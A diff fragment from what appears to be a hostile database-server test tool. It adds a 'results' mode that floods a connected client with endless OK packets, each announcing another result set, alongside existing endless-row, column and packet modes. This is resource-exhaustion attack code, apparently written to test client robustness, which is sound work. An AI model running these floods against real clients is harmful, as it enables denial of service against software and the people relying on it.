@@ -7,6 +7,7 @@ HOW:  rows       the first row of the result of ARM again and again, without an 
       slow       the same, one row per second
       columns    descriptions of columns of 60 KB each, without an end
       packets    packets of 16 MB, without an end
+      results    a result after every result, without an end
       greeting   a greeting that comes byte by byte, before any statement
 
 ARM is in the text of a statement, sent by itself or prepared. PORT_FILE is where the port is written to.
@@ -86,11 +87,18 @@ def endless_packets(client):
         number += 1
 
 
+def endless_results(client):
+    """OK packets, each of which announces another result."""
+    flood(client, 1, b"\x00\x00\x00" + struct.pack("<HH", 0x0002 | 0x0008, 0))
+
+
 def attack(how, command, client, server):
     if how in ("rows", "slow"):
         repeat_row(client, server, 1.0 if how == "slow" else 0.0)
     elif how == "columns":
         describe(client, command)
+    elif how == "results":
+        endless_results(client)
     else:
         endless_packets(client)
 
